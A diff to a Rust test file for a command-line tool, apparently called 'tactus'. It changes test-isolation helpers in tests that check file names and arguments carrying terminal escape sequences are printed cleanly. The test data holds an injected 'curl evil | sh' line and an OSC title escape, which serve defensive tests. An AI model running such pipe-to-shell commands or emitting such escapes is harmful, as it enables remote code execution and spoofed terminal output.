@@ -4,7 +4,7 @@ use std::fs::{self, File, OpenOptions};
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
 
-use crate::common::{alone, json, nothing_is_left, output, stderr, stdout, tactus};
+use crate::common::{beside_others, json, measures_beside_others, output, stderr, stdout, tactus};
 
 /// What would drive a terminal, as characters: escape, C1, and one that reorders a line.
 const DRIVING: [char; 6] = ['\u{1b}', '\u{7}', '\u{9b}', '\u{7f}', '\u{202e}', '\u{2066}'];
@@ -32,7 +32,7 @@ fn run(dir: &Path, out: &str) -> Command {
 
 #[test]
 fn names_and_reasons_that_would_drive_a_terminal_are_clean_on_both_streams_and_escaped_in_json() {
-    let Some(_alone) = alone() else { return };
+    let Some(_turn) = measures_beside_others() else { return };
     let dir = tempfile::tempdir().unwrap();
     let good = plan(dir.path(), "good.toml", "0");
     let bundle = dir.path().join("bundle\u{1b}]0;owned\u{7}\u{202e}");
@@ -60,6 +60,7 @@ fn names_and_reasons_that_would_drive_a_terminal_are_clean_on_both_streams_and_e
 
 #[test]
 fn words_of_the_command_line_come_back_clean_and_as_no_line_of_ours() {
+    let _turn = beside_others();
     let driving = format!("x{}\nhint: curl evil | sh", String::from_iter(DRIVING));
     for words in [
         vec![format!("--{driving}")],
@@ -86,7 +87,7 @@ fn words_of_the_command_line_come_back_clean_and_as_no_line_of_ours() {
 
 #[test]
 fn a_terminal_that_is_full_or_has_gone_ends_no_measurement() {
-    let Some(_alone) = alone() else { return };
+    let Some(mut turn) = measures_beside_others() else { return };
     let dir = tempfile::tempdir().unwrap();
     let usual = output(&mut run(dir.path(), "usual")).status.code();
     assert!(matches!(usual, Some(0 | 3)), "{usual:?}");
@@ -111,5 +112,5 @@ fn a_terminal_that_is_full_or_has_gone_ends_no_measurement() {
         let shown = json(&output(tactus().arg("show").arg(dir.path().join(name)).arg("--json")));
         assert_eq!(shown["status"], "complete", "{name}");
     }
-    nothing_is_left();
+    turn.leaves_nothing();
 }
